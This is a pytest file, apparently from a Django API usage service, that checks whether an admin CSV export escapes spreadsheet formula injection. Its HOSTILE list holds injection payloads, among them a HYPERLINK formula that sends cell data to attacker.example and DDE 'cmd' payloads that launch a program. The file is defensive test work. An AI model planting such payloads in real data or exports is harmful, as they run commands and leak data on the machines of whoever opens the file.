"""Attack class: CSV formula injection. A client chooses the model name it asks for and its User-Agent; both reach
the usage ledger and the admin's CSV export. A spreadsheet opening that file runs a cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return as a formula, so every such text cell is exported with a leading single
quote (OWASP's advice), and reads back as the text the client sent."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from usage.models import UsageRecord

pytestmark = pytest.mark.django_db
EXPORT = "/admin/usage/usagedashboard/export.csv"
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported(admin_client) -> list[dict]:
    response = admin_client.get(EXPORT, {"identity": "mallory@csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_attack_csv_formula_injection_model_and_user_agent_are_neutralised(admin_client):
    for n, value in enumerate(HOSTILE):
        UsageRecord.objects.create(
            request_id=f"req_csv_{n}",
            identity_name="mallory@csv",
            endpoint="chat.completions",
            model_requested=value,
            client=value,
            prompt_tokens=1,
            total_tokens=1,
            cost_usd=Decimal("0"),
            status=200,
        )
    rows = exported(admin_client)
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("model_requested", "client"):
            cell = row[column]
            assert cell.startswith("'"), f"{column} would run as a formula: {cell!r}"
            assert cell[1:] in HOSTILE, "the text itself is kept, after the quote"


def test_plain_cells_and_numbers_are_left_as_they_are(admin_client):
    UsageRecord.objects.create(
        request_id="req_csv_plain",
        identity_name="mallory@csv",
        endpoint="chat.completions",
        model_requested="claude-4-sonnet",
        client="claude-code/2.1.3",
        prompt_tokens=5,
        total_tokens=7,
        cost_usd=Decimal("0.0100"),
        status=200,
    )
    (row,) = exported(admin_client)
    assert (row["model_requested"], row["client"], row["total_tokens"], row["cost_usd"]) == (
        "claude-4-sonnet",
        "claude-code/2.1.3",
        "7",
        "0.01000000",
    )
